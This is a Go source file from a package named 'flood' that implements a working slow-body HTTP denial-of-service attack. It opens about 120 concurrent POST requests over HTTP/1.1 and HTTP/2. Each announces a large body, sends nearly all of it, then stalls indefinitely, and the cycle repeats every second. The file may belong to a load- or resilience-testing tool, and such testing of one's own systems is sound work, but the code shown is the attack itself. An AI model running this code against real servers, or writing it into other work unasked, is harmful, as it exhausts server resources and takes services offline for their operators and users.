package flood

import (
	"context"
	"io"
	"net/http"
	"time"
)

const (
	// bodies is how many are under way at once, over each protocol.
	bodies = 60
	// announced is what each says that it has, in bytes, and missing what never comes of it.
	announced, missing = 7<<20 - 1, 3 << 10
)

// Bodies posts to path bodies that stop before their end, over HTTP/1.1 and over HTTP/2, and holds
// each for as long as the server does.
func Bodies(path string) func(context.Context, Target) int64 { return stall(path, bodies, announced) }

func stall(path string, many int, size int64) func(context.Context, Target) int64 {
	return func(ctx context.Context, t Target) int64 {
		clients := make(chan *http.Client, 2*many)
		for n := range cap(clients) {
			clients <- t.client(n%2 == 0)
		}
		return again(ctx, cap(clients), time.Second, func(ctx context.Context) {
			client := <-clients
			defer func() { clients <- client }()
			ctx, cancel := context.WithCancel(ctx)
			defer cancel()
			request, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+t.Address+path, &stalled{ctx, size - missing})
			if err != nil {
				return
			}
			request.ContentLength = size
			if response, err := client.Do(request); err == nil {
				_ = response.Body.Close()
			}
			client.CloseIdleConnections()
		})
	}
}

func (t Target) client(http2 bool) *http.Client {
	protocols := new(http.Protocols)
	protocols.SetHTTP2(http2)
	protocols.SetHTTP1(!http2)
	return &http.Client{Transport: &http.Transport{DialContext: t.Dial, Protocols: protocols, TLSClientConfig: stranger()}}
}

// stalled is a body that gives so many zeros, and then nothing until ctx ends.
type stalled struct {
	ctx  context.Context
	left int64
}

// Read implements io.Reader.
func (s *stalled) Read(p []byte) (int, error) {
	if s.left == 0 {
		<-s.ctx.Done()
		return 0, io.ErrUnexpectedEOF
	}
	n := int(min(int64(len(p)), s.left))
	clear(p[:n])
	s.left -= int64(n)
	return n, nil
}
